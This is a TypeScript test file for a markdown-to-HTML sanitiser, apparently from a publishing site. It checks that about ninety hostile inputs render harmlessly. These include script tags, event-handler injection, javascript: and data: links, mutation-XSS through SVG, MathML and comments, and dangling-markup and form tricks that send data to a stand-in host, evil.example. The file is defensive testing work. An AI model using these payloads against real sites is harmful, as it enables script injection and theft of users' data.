import { htmlToHast } from 'satteri';
import { toHtml } from 'hast-util-to-html';
import { describe, expect, test } from 'vitest';
import { harmIn } from './harm.ts';
import { htmlOf } from './rendered.ts';

const hostile = {
  'a script': '<script>alert(1)</script>',
  'a script in a paragraph': 'a <script>alert(1)</script> b',
  'a script in another case': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  'a script that is never closed': '<script>alert(1)',
  'a script with a slash': '<script/x>alert(1)</script/x>',
  'a script in an entity': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'a script inside a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'an image with a handler': '<img src=x onerror=alert(1)>',
  'an image with a handler, slashes for spaces': '<img/src=x/onerror=alert(1)>',
  'an image with a handler on a line of its own': '<img src="x"\nonerror="alert(1)">',
  'an image that is there, with a handler': '<img src="there.png" onload=alert(1)>',
  'an image with a source set': '<img src="there.png" srcset="https://evil.example/x 2x">',
  'an image of a script address': '![x](javascript:alert(1)) <img src="javascript:alert(1)">',
  'an image of data': '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  'details with a handler': '<details open ontoggle=alert(1)>x</details>',
  'every handler of a paragraph': '<p onclick=a onmouseover=b onfocus=c onanimationstart=d tabindex=1 autofocus>x</p>',
  'a javascript link': '[x](javascript:alert(1))',
  'a javascript link in another case': '[x](JaVaScRiPt:alert(1))',
  'a javascript link with entities': '[x](&#106;avascript&colon;alert&lpar;1&rpar;)',
  'a javascript link with hexadecimal entities': '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
  'a javascript link with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'a javascript link with a line break': '<a href="java\nscript:alert(1)">x</a>',
  'a javascript link with a tab as an entity': '<a href="java&Tab;script:alert(1)">x</a>',
  'a javascript link after control characters': '<a href="&#1;&#14; javascript:alert(1)">x</a>',
  'a javascript link in angle brackets': '[x](<javascript:alert(1)>)',
  'a javascript link by reference': '[x][1]\n\n[1]: javascript:alert(1)',
  'a javascript autolink': '<javascript:alert(1)>',
  'a vbscript link': '[x](vbscript:msgbox(1))',
  'a data link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'a file link': '[x](file:///etc/passwd)',
  'a link to another site without a protocol': '[x](//evil.example) [y](/\\\\evil.example) [z](\\\\evil.example)',
  'a link with a handler': '<a href="/mba" onclick="alert(1)" target=_blank ping=//evil.example download>x</a>',
  'a link that breaks out of its attribute': '[x](/a"onmouseover="alert(1))',
  'a title that breaks out of its attribute': "[x](/a 'y\" onmouseover=\"alert(1)')",
  'an alternative text that breaks out': '![a" onerror="alert(1)](there.png)',
  'a reference that breaks out': '[x][1]\n\n[1]: /a "t\\" onclick=\\"alert(1)"',
  'an inline frame': '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  'objects': '<object data=x><embed src=x><param name=x></object><applet code=x>',
  'a form': '<form action=https://evil.example><input name=password type=password><button formaction=x>go</button><select><option>x</select><textarea><script>',
  'a checkbox outside a list': '<input type=image src=x onerror=alert(1)> <input type=checkbox autofocus onfocus=alert(1)>',
  'a base': '<base href="https://evil.example/">',
  'a meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'a stylesheet': '<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example";body{display:none}</style>',
  'style attributes': '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  'style attributes of cells': '<table><tr><td style="text-align:right;background:url(//evil.example)">1</td></tr></table>',
  'a style that closes itself': '<style><!--</style><img src=x onerror=alert(1)>-->',
  'drawings': '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'a drawing with a foreign object': '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  'a drawing with a style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'a drawing that uses another': '<svg><use href="data:image/svg+xml,x#y"/><animate attributeName=href values=javascript:alert(1) /></svg>',
  'mathematics with a link': '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
  'mathematics with an action': '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  'a mutation through mathematics': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a mutation through forms in mathematics': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'a mutation through drawings': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a mutation through a textarea': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'a mutation through a title': '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  'a mutation through xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'a mutation through a template': '<template><script>alert(1)</script></template>',
  'a mutation through a comment': '<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> -->',
  'a comment like our own': '<!-- formula-lost 1 --><!-- formula-lost --><img src=x onerror=alert(1)> -->',
  'a comment that browsers end early': '<!-- a --!> <script>alert(1)</script> -->',
  'CDATA': '<![CDATA[<script>alert(1)</script>]]> <svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'a processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?> <?php echo 1 ?>',
  'a document type': '<!DOCTYPE html [<!ENTITY x "y">]>',
  'plain text to the end': '<plaintext>a <script>alert(1)</script>',
  'a whole page': '<html><head><title>x</title></head><body onload=alert(1)>x</body></html>',
  'a frame set': '<frameset onload=alert(1)><frame src=x></frameset>',
  'dangling markup': "<img src='https://evil.example/?\n\nsecret\n\n'>",
  'a dangling attribute': '<a href="https://evil.example/?\n\nsecret',
  'a custom element': '<x-y onclick=alert(1) is=z>text</x-y> <p is="x-y" slot=a part=b>z</p>',
  'ids that the page uses': '<p id="text" name="content">x</p> <a id="search-dialog" name=cookie href="/mba">y</a>',
  'data for scripts': '<p data-astro-transition="x" data-from="en">x</p>',
  'roles and labels': '<p role="alert" aria-label="Your session ended" aria-hidden=false>x</p>',
  'a popover': '<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>',
  'microdata': '<div itemscope itemtype="https://evil.example"><span itemprop="name">x</span></div>',
  'footnotes like the parser’s': '<section data-footnotes class="footnotes"><h2 id="footnote-label" class="sr-only">F</h2><ol><li id="user-content-fn-1">x</li></ol></section>',
  'footnote links like the parser’s': '<a data-footnote-ref href="javascript:alert(1)" id="user-content-fnref-1">1</a> <a data-footnote-backref href="//evil.example">x</a> <a data-footnote-ref href="#%E0%A4%A" id="user-content-fnref-x">2</a>',
  'a footnote with two definitions': 'a[^1]\n\n[^1]: x\n\n<ol><li id="user-content-fn-1">y</li></ol>',
  'a footnote whose name is HTML': 'a[^"><img/src=x/onerror=alert(1)>]\n\n[^"><img/src=x/onerror=alert(1)>]: x',
  'TeX with a link': '$$\\href{javascript:alert(1)}{x}$$',
  'TeX with an image': '$$\\includegraphics[height=1em]{https://evil.example/x.png}$$',
  'TeX with classes and styles': '$$\\class{x}{a} \\id{text}{b} \\style{position:fixed}{c} \\data{a=b}{d}$$',
  'TeX with HTML': '$$\\text{<img src=x onerror=alert(1)>} \\unicode{x3c}$$\n\n```math\n</math><script>alert(1)</script>\n```',
  'TeX that expands for ever': '$$\\def\\a{\\a\\a}\\a$$',
  'HTML inside a code class': '<code class="language-math"><img src=x onerror=alert(1)></code> <code class="language-x evil">y</code>',
  'HTML in an info string': '```"><img src=x onerror=alert(1)>\nx\n```',
  'a NUL': '<scr\u0000ipt>alert(1)</scr\u0000ipt> [x](java\u0000script:alert(1))',
  'an unpaired surrogate': '<img src=x onerror=alert(1) \ud800> \ud83d text \udc00',
  'text that turns itself round': 'a \u202egnp.exe\u202c b &#x202e;c <bdo dir=rtl>d</bdo>',
} as const;

describe('hostile HTML does nothing', () => {
  test.each(Object.entries(hostile))('%s', (_, markdown) => {
    for (const text of [markdown, `before\n\n${markdown}\n\nafter`, `- item\n\n  ${markdown}`, `> ${markdown}`, `| a |\n|---|\n| ${markdown.replaceAll('\n', ' ')} |`]) {
      expect(harmIn(htmlOf(text))).toEqual([]);
    }
  });

  test.each(Object.entries(hostile))('%s: a browser’s parser reads the result as what it was written from', (_, markdown) => {
    const html = htmlOf(`before\n\n${markdown}\n\nafter`);
    const read = toHtml(htmlToHast(html, { fragment: true }));
    expect(harmIn(read)).toEqual([]);
  });
});

describe('what is removed', () => {
  test.each([
    ['scripts and styles go with what they hold', 'a <script>secret()</script> <style>p { color: red }</style> b', '<p>a   b</p>'],
    ['drawings too', 'a <svg><text>secret</text></svg> b', '<p>a  b</p>'],
    ['of other elements the words stay', '<center>a <font color=red>b</font></center>', 'a b'],
    ['attributes that are not allowed go', '<p class="x" id="y" style="z" onclick="w" data-v="u" lang="sv">a</p>', '<p lang="sv">a</p>'],
    ['directions no reader sees go', 'a\u202eb\u2066c &#x202d;d', '<p>abc d</p>'],
  ])('%s', (_, markdown, html) => {
    expect(htmlOf(markdown)).toBe(html);
  });

  test('everything else that articles use stays', () => {
    const html = '<details open><summary>More</summary><p>H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>, <abbr title="Return on equity">ROE</abbr></p></details>';
    expect(htmlOf(html)).toBe(html);
  });
});
